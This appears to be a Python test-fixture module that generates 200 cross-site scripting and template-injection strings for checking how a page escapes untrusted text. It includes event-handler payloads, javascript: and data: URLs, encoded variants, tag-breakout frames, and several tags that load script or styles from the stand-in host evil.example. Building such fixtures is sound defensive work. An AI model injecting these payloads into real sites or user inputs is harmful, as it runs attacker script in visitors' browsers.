"""Words that try to become markup, a script or an address wherever a page shows them without care: 200 of them, all unlike."""

from __future__ import annotations

_RUNS = (
    "<script>@</script>", "<ScRiPt >@</sCrIpT >", "<script src=//evil.example/@></script>", "<svg onload=@>", "<svg/onload=@>",
    "<svg><script>@</script></svg>", "<img src=x onerror=@>", "<img/src=x/onerror=@>", '<img src="x`" onerror=@>', "<body onload=@>",
    "<iframe src=javascript:@>", "<iframe srcdoc='<script>@</script>'>", "<object data=javascript:@>", "<embed src=javascript:@>",
    "<a href=javascript:@>x</a>", "<a href=' javascript:@'>x</a>", "<form action=javascript:@><button>x", "<button formaction=javascript:@>x",
    "<input autofocus onfocus=@>", "<details open ontoggle=@>", "<video><source onerror=@>", "<audio src=x onerror=@>", "<marquee onstart=@>",
    "<meta http-equiv=refresh content='0;url=javascript:@'>", "<link rel=stylesheet href=//evil.example/@>", "<base href=//evil.example/@>",
    "<style>@import '//evil.example/@';</style>", "<math><mtext><script>@</script></mtext></math>", "<template><script>@</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=@>'>", "<plaintext>@",
)  # fmt: skip
_FRAMES = ("#", '">#', "'>#", "</title>#", "</textarea>#", "--><!-- #")
_OTHERS = (
    "{{7*7}}@", "{% raw %}@", "${7*7}@", "javascript:@", "data:text/html,<script>@</script>", '" autofocus onfocus=@ x="',
    "' onmouseover=@ x='", "` onclick=@", "\\u003cscript\\u003e@", "&#60;script&#62;@", "&#x3c;img src=x onerror=@&#x3e;",
    "]]><script>@</script>", "</code></pre><img src=x onerror=@>", "\u202e<script>@</script>\u202c",
)  # fmt: skip


def hostile_words() -> list[str]:
    """All of them; each would call ``hit`` with its own number."""
    shapes = [*_OTHERS, *(frame.replace("#", run) for run in _RUNS for frame in _FRAMES)]
    return [shape.replace("@", f"hit({number})") for number, shape in enumerate(shapes)]
